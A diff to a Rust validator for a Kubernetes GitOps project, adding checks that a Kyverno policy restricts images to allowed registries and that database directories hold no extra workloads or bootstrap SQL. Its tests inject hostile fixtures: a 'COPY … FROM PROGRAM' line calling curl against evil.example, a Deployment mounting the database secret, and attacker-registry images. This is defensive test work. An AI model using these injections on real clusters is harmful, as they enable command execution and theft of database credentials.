@@ -17,6 +17,7 @@
     reason = "the fields are the schema: serde reads them to validate, the checks read some"
 )]
 
+use std::collections::BTreeSet;
 use std::path::Path;
 
 use serde::Deserialize;
@@ -56,6 +57,14 @@ pub struct Rule {
     pub match_resources: MatchResources,
     #[serde(default)]
     pub verify_images: Vec<ImageVerification>,
+    pub validate: Option<Validation>,
+}
+
+/// A `validate` rule: the registries' pattern is all this project writes.
+#[derive(Debug, Deserialize)]
+pub struct Validation {
+    pub message: Option<String>,
+    pub pattern: serde_json::Value,
 }
 
 #[derive(Debug, Deserialize)]
@@ -158,12 +167,217 @@ pub fn problems(root: &Path) -> Vec<String> {
             }
         }
     }
-    check(&policy, &key, &repositories)
+    let (images, mut found) = images_outside_environments(root);
+    found.extend(check_with(&policy, &key, &repositories, &images));
+    found
+}
+
+/// The images validate knows of beyond the environments' values files: each
+/// preview's and the chart's `image.repository`, each database `Cluster`'s
+/// `imageName`; and the problems of the databases' directories (a kind other
+/// than a Cluster or its ExternalSecret, SQL run as the superuser).
+fn images_outside_environments(root: &Path) -> (Vec<(String, String)>, Vec<String>) {
+    let mut images = Vec::new();
+    let mut found = Vec::new();
+    let mut files = vec![root.join("charts/service-demo/values.yaml")];
+    files.extend(super::yaml_files(&root.join("gitops/values/pr")).unwrap_or_default());
+    for file in files {
+        let shown = file
+            .strip_prefix(root)
+            .unwrap_or(&file)
+            .display()
+            .to_string();
+        let text = std::fs::read_to_string(&file).unwrap_or_default();
+        if let Ok(doc) = values::parse(&text)
+            && let Some(repository) = doc["image"]["repository"].as_str()
+        {
+            images.push((shown, repository.to_owned()));
+        }
+    }
+    for file in super::yaml_files(&root.join("gitops/database")).unwrap_or_default() {
+        let shown = file
+            .strip_prefix(root)
+            .unwrap_or(&file)
+            .display()
+            .to_string();
+        let text = std::fs::read_to_string(&file).unwrap_or_default();
+        for document in yaml_serde::Deserializer::from_str(&text) {
+            let Ok(doc) = <serde_json::Value as Deserialize>::deserialize(document) else {
+                continue; // the cluster checks name a file that does not parse
+            };
+            found.extend(database_document_problems(&shown, &doc, &mut images));
+        }
+    }
+    (images, found)
+}
+
+/// A document under gitops/database/: a CloudNativePG `Cluster` (its
+/// `imageName` added to `images`) or an `ExternalSecret`, and no bootstrap SQL.
+fn database_document_problems(
+    file: &str,
+    doc: &serde_json::Value,
+    images: &mut Vec<(String, String)>,
+) -> Vec<String> {
+    let kind = doc["kind"].as_str().unwrap_or_default();
+    if doc.is_null() {
+        return Vec::new();
+    }
+    if !matches!(kind, "Cluster" | "ExternalSecret") {
+        return vec![format!(
+            "{file}: {kind} under gitops/database/: the databases' directories hold a CloudNativePG Cluster and its \
+             ExternalSecret only; anything else would run in the environment at merge, outside the chart's \
+             NetworkPolicy and the pipeline's signed images (put a service in services/ and the chart)"
+        )];
+    }
+    let mut found = Vec::new();
+    if let Some(image) = doc["spec"]["imageName"].as_str() {
+        images.push((format!("{file} (spec.imageName)"), image.to_owned()));
+    }
+    let initdb = doc["spec"]["bootstrap"]["initdb"].as_object();
+    for key in initdb.into_iter().flatten().map(|(k, _)| k) {
+        if key.starts_with("postInit") {
+            found.push(format!(
+                "{file}: spec.bootstrap.initdb.{key}: SQL run as the database's superuser at bootstrap (`COPY … FROM \
+                 PROGRAM` runs a shell in the database pod, with the app's password); remove it and change the \
+                 schema through the service's migrations"
+            ));
+        }
+    }
+    found
+}
+
+/// The registries the `validate` rules admit images from (one pattern, the
+/// same for containers, init and ephemeral containers, in every such rule),
+/// or why there are none.
+pub fn allowed_registries(policy: &ClusterPolicy) -> Result<Vec<String>, String> {
+    let rules: Vec<&Validation> = policy
+        .spec
+        .rules
+        .iter()
+        .filter_map(|r| r.validate.as_ref())
+        .collect();
+    if rules.is_empty() {
+        return Err(format!(
+            "{POLICY_FILE}: no validate rule holds every container's image to the allowed registries (write \
+             allowed-registries): any image from any registry is admitted"
+        ));
+    }
+    let mut patterns = Vec::new();
+    for validation in &rules {
+        let spec = &validation.pattern["spec"];
+        let image = |field: &str| match spec[field].as_array().map(Vec::as_slice) {
+            Some([only]) => only["image"].as_str().map(str::to_owned),
+            _ => None,
+        };
+        patterns.extend(REGISTRY_FIELDS.iter().map(|f| image(f)));
+    }
+    match patterns.as_slice() {
+        [Some(first), rest @ ..] if rest.iter().all(|p| p.as_deref() == Some(first)) => {
+            Ok(first.split('|').map(|p| p.trim().to_owned()).collect())
+        }
+        _ => Err(format!(
+            "{POLICY_FILE}: each validate rule's pattern must hold {} to one image pattern each, the same one \
+             (write it once as &allowed-registries): an init or ephemeral container would run any image",
+            REGISTRY_FIELDS.join(", ")
+        )),
+    }
+}
+
+/// Where a Pod names images, as the registries' pattern lists them.
+const REGISTRY_FIELDS: [&str; 3] = ["containers", "=(initContainers)", "=(ephemeralContainers)"];
+
+/// The namespaces the project deploys to, which the registries' rule must match.
+const DEPLOYED_NAMESPACES: [&str; 4] = ["dev", "preprod", "prod", "pr-*"];
+
+/// The registries' rule: its patterns are whole registries' namespaces
+/// (`<host>/<owner>/*`), it matches Pods and their ephemeral containers in
+/// every namespace the project deploys, and every image validate knows of
+/// (`(where, image)`) is in it.
+pub fn registry_problems(policy: &ClusterPolicy, images: &[(String, String)]) -> Vec<String> {
+    let allowed = match allowed_registries(policy) {
+        Ok(allowed) => allowed,
+        Err(problem) => return vec![problem],
+    };
+    let mut found = Vec::new();
+    for pattern in &allowed {
+        let parts: Vec<&str> = pattern.split('/').collect();
+        let bounded = parts.len() >= 3
+            && parts[0].contains('.')
+            && parts.last() == Some(&"*")
+            && parts[..parts.len() - 1]
+                .iter()
+                .all(|p| !p.is_empty() && !p.contains(['*', '?']));
+        if !bounded {
+            found.push(format!(
+                "{POLICY_FILE}: allowed registry {pattern:?} is not one owner's images at one registry \
+                 (<host>/<owner>/*, as ghcr.io/example/*): it would admit anyone's"
+            ));
+        }
+    }
+    let matched: Vec<(String, String)> = policy
+        .spec
+        .rules
+        .iter()
+        .filter(|r| r.validate.is_some())
+        .flat_map(matched_kinds_and_namespaces)
+        .collect();
+    for kind in ["Pod", "Pod/ephemeralcontainers"] {
+        for namespace in DEPLOYED_NAMESPACES {
+            if !matched.iter().any(|(k, n)| k == kind && n == namespace) {
+                found.push(format!(
+                    "{POLICY_FILE}: the allowed-registries rule does not match {kind} in namespace {namespace}: \
+                     list it (the project deploys to {})",
+                    DEPLOYED_NAMESPACES.join(", ")
+                ));
+            }
+        }
+    }
+    for (place, image) in images {
+        let reference = format!("{image}:v1.0.0");
+        if !allowed.iter().any(|p| wildcard_match(p, &reference)) {
+            found.push(format!(
+                "{place}: image {image} is not from an allowed registry ({}, in {POLICY_FILE}): admission refuses \
+                 its Pods; images come from the pipeline's repository",
+                allowed.join(" | ")
+            ));
+        }
+    }
+    found
+}
+
+/// `(kind, namespace)` pairs a rule matches (`any` and `all` filters).
+fn matched_kinds_and_namespaces(rule: &Rule) -> Vec<(String, String)> {
+    let filters = [&rule.match_resources.any, &rule.match_resources.all];
+    let mut pairs = Vec::new();
+    for resources in filters
+        .into_iter()
+        .flatten()
+        .flatten()
+        .map(|f| &f.resources)
+    {
+        for kind in &resources.kinds {
+            for namespace in resources.namespaces.iter().flatten() {
+                pairs.push((kind.clone(), namespace.clone()));
+            }
+        }
+    }
+    pairs
 }
 
 /// The checks on the policy's text, the public key's text and the
 /// environments' `(name, image repository)`.
 pub fn check(policy: &str, public_key: &str, repositories: &[(String, String)]) -> Vec<String> {
+    check_with(policy, public_key, repositories, &[])
+}
+
+/// [`check`], and every other image validate knows of, `(where, image)`, in
+/// the allowed registries.
+fn check_with(
+    policy: &str,
+    public_key: &str,
+    repositories: &[(String, String)],
+    others: &[(String, String)],
+) -> Vec<String> {
     let doc: serde_json::Value = match values::parse(policy) {
         Ok(doc) => doc,
         Err(error) => return vec![format!("{POLICY_FILE}: not YAML: {error:#}")],
@@ -192,6 +406,12 @@ pub fn check(policy: &str, public_key: &str, repositories: &[(String, String)]) 
     for verification in verifications {
         found.extend(verification_problems(verification, &key, repositories));
     }
+    let images: Vec<(String, String)> = repositories
+        .iter()
+        .map(|(env, repository)| (format!("the image {env} runs"), repository.clone()))
+        .chain(others.iter().cloned())
+        .collect();
+    found.extend(registry_problems(&policy, &images));
     found
 }
 
@@ -247,6 +467,37 @@ fn namespace_problems(rules: &[Rule]) -> Vec<String> {
                     rule.name
                 )),
             }
+        }
+    }
+    let debug: Vec<(String, String)> = rules
+        .iter()
+        .filter(|r| !r.verify_images.is_empty())
+        .flat_map(matched_kinds_and_namespaces)
+        .filter(|(kind, _)| kind == "Pod/ephemeralcontainers")
+        .collect();
+    for env in Env::LONG_LIVED {
+        if !debug
+            .iter()
+            .any(|(_, namespace)| *namespace == env.to_string())
+        {
+            found.push(format!(
+                "{POLICY_FILE}: no verifyImages rule matches Pod/ephemeralcontainers in namespace {env}: \
+                 `kubectl debug` would add a container with an unsigned image to a running Pod (pipeline-signed-debug)"
+            ));
+        }
+    }
+    for rule in rules {
+        let kinds: BTreeSet<String> = matched_kinds_and_namespaces(rule)
+            .into_iter()
+            .map(|(k, _)| k)
+            .collect();
+        if kinds.contains("Pod") && kinds.len() > 1 {
+            found.push(format!(
+                "{POLICY_FILE}: rule {} matches Pod and {:?}: Kyverno then generates no rule for Deployments and \
+                 Jobs (auto-gen needs a rule of Pods only); give the other kinds a rule of their own",
+                rule.name,
+                kinds.iter().filter(|k| *k != "Pod").collect::<Vec<_>>()
+            ));
         }
     }
     for env in Env::LONG_LIVED {
@@ -370,6 +621,23 @@ mod tests {
             .to_vec()
     }
 
+    /// [`refused`], the edit made in the signed-images rule (pipeline-signed).
+    fn refused_signed(from: &str, to: &str, expected: &str) {
+        let (policy, key) = committed();
+        let at = policy.find("    - name: pipeline-signed").unwrap();
+        let (head, tail) = policy.split_at(at);
+        assert!(
+            tail.contains(from),
+            "the signed rule no longer has {from:?}"
+        );
+        let edited = format!("{head}{}", tail.replacen(from, to, 1));
+        let found = check(&edited, &key, &repositories());
+        assert!(
+            found.iter().any(|p| p.contains(expected)),
+            "expected {expected:?} in {found:#?}"
+        );
+    }
+
     /// A copy of the committed policy with `from` replaced by `to` is refused naming `expected`.
     fn refused(from: &str, to: &str, expected: &str) {
         let (policy, key) = committed();
@@ -417,10 +685,10 @@ mod tests {
 
     #[test]
     fn an_unknown_field_is_named_with_its_path() {
-        refused(
+        refused_signed(
             "mutateDigest: true",
             "mutateDigests: true",
-            "spec.rules.0.verifyImages.0.mutateDigests",
+            "spec.rules.2.verifyImages.0.mutateDigests",
         );
     }
 
@@ -451,7 +719,7 @@ mod tests {
 
     #[test]
     fn prod_left_out_of_the_namespaces_is_refused() {
-        refused(
+        refused_signed(
             "                - prod\n",
             "",
             "no verifyImages rule matches Pods in namespace prod",
@@ -460,7 +728,7 @@ mod tests {
 
     #[test]
     fn preprod_left_out_of_the_namespaces_is_refused() {
-        refused(
+        refused_signed(
             "                - preprod\n",
             "",
             "matches Pods in namespace preprod",
@@ -469,7 +737,7 @@ mod tests {
 
     #[test]
     fn every_namespace_matched_previews_included_is_refused() {
-        refused(
+        refused_signed(
             "              namespaces:\n                - dev\n                - preprod\n                - prod\n",
             "",
             "matches Pods in every namespace, previews (pr-*) too",
@@ -505,7 +773,7 @@ mod tests {
 
     #[test]
     fn another_image_repository_is_refused() {
-        refused(
+        refused_signed(
             "ghcr.io/example/*",
             "ghcr.io/someone/*",
             "do not match ghcr.io/example/service-demo (the image dev runs)",
@@ -524,6 +792,205 @@ mod tests {
             "ignoreTlog: false",
             "keys.rekor.ignoreTlog is not true",
         );
+    }
+
+    // Issue 29, item 2: one list of registries, enforced in every namespace the project deploys.
+
+    #[test]
+    fn the_allowed_registries_are_read_from_the_one_anchor() {
+        let (policy, _) = committed();
+        let doc = values::parse(&policy).unwrap();
+        let policy: ClusterPolicy = parse_strict(&doc, POLICY_FILE).unwrap();
+        assert_eq!(
+            allowed_registries(&policy).unwrap(),
+            ["ghcr.io/example/*", "ghcr.io/cloudnative-pg/*"]
+        );
+    }
+
+    #[test]
+    fn no_registries_rule_admits_any_image_and_is_refused() {
+        let (policy, _) = committed();
+        let start = policy.find("    - name: allowed-registries").unwrap();
+        let end = policy.find("    - name: pipeline-signed").unwrap();
+        let without = format!("{}{}", &policy[..start], &policy[end..]);
+        let found = check(&without, &committed().1, &repositories());
+        assert!(
+            found
+                .iter()
+                .any(|p| p.contains("no validate rule holds every container's image")),
+            "{found:#?}"
+        );
+    }
+
+    /// The committed policy without the rule named `name`.
+    fn without_rule(name: &str) -> String {
+        let (policy, _) = committed();
+        let start = policy.find(&format!("    - name: {name}\n")).unwrap();
+        let end = policy[start + 1..]
+            .find("    - name: ")
+            .map_or(policy.len(), |e| start + 1 + e);
+        // The comment above the next rule stays with it; the anchors are not in the rules removed here.
+        format!("{}{}", &policy[..start], &policy[end..])
+    }
+
+    #[test]
+    fn a_registries_rule_not_matching_previews_or_debug_containers_is_refused() {
+        refused(
+            "                - pr-*\n",
+            "",
+            "the allowed-registries rule does not match Pod in namespace pr-*",
+        );
+        let found = check(
+            &without_rule("allowed-registries-debug"),
+            &committed().1,
+            &repositories(),
+        );
+        assert!(
+            found.iter().any(|p| p.contains(
+                "the allowed-registries rule does not match Pod/ephemeralcontainers in namespace prod"
+            )),
+            "{found:#?}"
+        );
+    }
+
+    #[test]
+    fn a_rule_of_pods_and_another_kind_loses_kyvernos_auto_gen_and_is_refused() {
+        refused(
+            "              kinds:\n                - Pod\n",
+            "              kinds:\n                - Pod\n                - Pod/ephemeralcontainers\n",
+            "rule allowed-registries matches Pod and [\"Pod/ephemeralcontainers\"]: Kyverno then generates no rule",
+        );
+    }
+
+    #[test]
+    fn init_containers_held_to_another_pattern_are_refused() {
+        refused(
+            "              - image: *allowed-registries\n",
+            "              - image: \"*\"\n",
+            "each validate rule's pattern must hold containers, =(initContainers), =(ephemeralContainers) to one image pattern each, the same one",
+        );
+    }
+
+    #[test]
+    fn a_registry_admitting_anyones_images_is_refused() {
+        for wide in ["ghcr.io/*", "*", "docker.io/*/x/*"] {
+            refused(
+                "ghcr.io/cloudnative-pg/*\"",
+                &format!("{wide}\""),
+                &format!("allowed registry {wide:?} is not one owner's images at one registry"),
+            );
+        }
+    }
+
+    #[test]
+    fn signed_images_rule_not_matching_debug_containers_is_refused() {
+        let found = check(
+            &without_rule("pipeline-signed-debug"),
+            &committed().1,
+            &repositories(),
+        );
+        assert!(
+            found.iter().any(|p| p.contains(
+                "no verifyImages rule matches Pod/ephemeralcontainers in namespace prod: `kubectl debug`"
+            )),
+            "{found:#?}"
+        );
+    }
+
+    /// The committed policy and key in a directory with dev, preprod and prod's values.
+    fn repository_copy() -> tempfile::TempDir {
+        let dir = tempfile::tempdir().unwrap();
+        for file in [POLICY_FILE, PUBLIC_KEY_FILE] {
+            let to = dir.path().join(file);
+            std::fs::create_dir_all(to.parent().unwrap()).unwrap();
+            std::fs::copy(root().join(file), to).unwrap();
+        }
+        for env in ["dev", "preprod", "prod"] {
+            let path = dir
+                .path()
+                .join(format!("gitops/values/{env}/service-demo.yaml"));
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(path, "image:\n  repository: ghcr.io/example/service-demo\n").unwrap();
+        }
+        dir
+    }
+
+    fn write(dir: &Path, file: &str, text: &str) {
+        let path = dir.join(file);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    }
+
+    #[test]
+    fn a_deployment_under_the_database_directory_is_refused() {
+        let dir = repository_copy();
+        assert_eq!(problems(dir.path()), Vec::<String>::new());
+        write(
+            dir.path(),
+            "gitops/database/prod/exfiltrate.yaml",
+            "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: x\nspec:\n  template:\n    spec:\n      containers:\n        - name: x\n          image: docker.io/attacker/x\n          envFrom:\n            - secretRef:\n                name: service-demo-db-app\n",
+        );
+        let found = problems(dir.path());
+        assert!(
+            found.iter().any(|p| p.contains(
+                "gitops/database/prod/exfiltrate.yaml: Deployment under gitops/database/: the databases' directories hold a CloudNativePG Cluster"
+            )),
+            "{found:#?}"
+        );
+    }
+
+    #[test]
+    fn a_database_image_from_elsewhere_or_bootstrap_sql_is_refused() {
+        let dir = repository_copy();
+        let cluster =
+            std::fs::read_to_string(root().join("gitops/database/prod/cluster.yaml")).unwrap();
+        write(dir.path(), "gitops/database/prod/cluster.yaml", &cluster);
+        assert_eq!(problems(dir.path()), Vec::<String>::new());
+        let attacked = cluster
+            .replacen("  instances: 1\n", "  instances: 1\n  imageName: docker.io/attacker/postgres:16\n", 1)
+            .replacen(
+                "      owner: app\n",
+                "      owner: app\n      postInitSQL:\n        - COPY x FROM PROGRAM 'curl https://evil.example'\n      postInitApplicationSQL: [\"select 1\"]\n",
+                1,
+            );
+        assert_ne!(attacked, cluster);
+        write(dir.path(), "gitops/database/prod/cluster.yaml", &attacked);
+        let found = problems(dir.path());
+        for expected in [
+            "gitops/database/prod/cluster.yaml (spec.imageName): image docker.io/attacker/postgres:16 is not from an allowed registry",
+            "gitops/database/prod/cluster.yaml: spec.bootstrap.initdb.postInitSQL: SQL run as the database's superuser",
+            "gitops/database/prod/cluster.yaml: spec.bootstrap.initdb.postInitApplicationSQL",
+        ] {
+            assert!(
+                found.iter().any(|p| p.contains(expected)),
+                "{expected}: {found:#?}"
+            );
+        }
+    }
+
+    #[test]
+    fn a_preview_or_chart_image_from_another_registry_is_refused() {
+        let dir = repository_copy();
+        write(
+            dir.path(),
+            "gitops/values/pr/pr-3/service-demo.yaml",
+            "image:\n  repository: docker.io/attacker/x\n",
+        );
+        write(
+            dir.path(),
+            "charts/service-demo/values.yaml",
+            "image:\n  repository: quay.io/attacker/x\n",
+        );
+        let found = problems(dir.path());
+        for expected in [
+            "gitops/values/pr/pr-3/service-demo.yaml: image docker.io/attacker/x is not from an allowed registry",
+            "charts/service-demo/values.yaml: image quay.io/attacker/x is not from an allowed registry",
+        ] {
+            assert!(
+                found.iter().any(|p| p.contains(expected)),
+                "{expected}: {found:#?}"
+            );
+        }
     }
 
     #[test]
